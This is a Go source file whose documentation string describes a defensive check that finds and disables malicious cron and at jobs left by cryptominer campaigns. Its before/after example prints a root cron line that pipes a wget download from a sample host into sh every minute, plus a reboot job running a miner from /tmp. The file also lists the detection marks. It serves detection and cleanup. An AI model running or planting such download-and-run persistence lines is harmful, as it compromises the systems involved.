// Package cron finds cron and at jobs that a compromise left behind.
package cron

const doc = `cron and at jobs that download into a shell, run hidden or world-writable programs, or miners

Miner campaigns come back through cron: a line in /etc/cron.d, root's
crontab or another user's spool that pipes "wget -q -O - http://…/d.sh"
into sh every minute, or runs /tmp/kdevtmpfsi or /root/.configrc/a/upd at
every boot. Killing the miner on the running machine does not help; cleaning
the stopped disk does. The check reads, without running anything:

  - /etc/crontab and /etc/cron.d/* (with their user field), the user
    crontabs in /var/spool/cron/crontabs (Debian), /var/spool/cron (RHEL)
    and /var/spool/cron/tabs (SUSE), and /etc/anacrontab;
  - the scripts run-parts runs from /etc/cron.{hourly,daily,weekly,monthly}:
    one a package installed and nobody changed is left alone, a changed one
    is judged statement by statement, one no package installed as a whole;
  - the at spool (/var/spool/cron/atjobs, /var/spool/at), where droppers
    leave a job to come back after a cleanup.

Every command is parsed as shell and reported only when it is marked (see
"rescue explain" of the intrusions family in docs/checks/intrusions.md): a
download or decoded base64 fed to a shell, a program in /tmp, /var/tmp,
/dev/shm or behind a dot-name, a miner's name, pool or wallet, a program no
package installed in /usr/bin and the like, a package program that was
replaced. The finding lists the marks and, in --json, the indicators: URLs,
hosts, and every file with its sha256, mtime and ctime.

The fix comments the line out ("# disabled by rescue: cron job: …") and
quarantines what it runs that no package installed and that is marked: the
file moves into the repair journal, and rescue undo puts it back. A marked
script or at job that no package installed is quarantined whole.

Before (/etc/cron.d/kinsing, and /tmp/kdevtmpfsi):

  * * * * * root wget -q -O - http://192.0.2.7/d.sh | sh > /dev/null 2>&1
  @reboot root /tmp/kdevtmpfsi

After:

  # disabled by rescue: cron job: * * * * * root wget -q -O - http://192.0.2.7/d.sh | sh > /dev/null 2>&1
  # disabled by rescue: cron job: @reboot root /tmp/kdevtmpfsi
  (/tmp/kdevtmpfsi is in the repair journal)
`
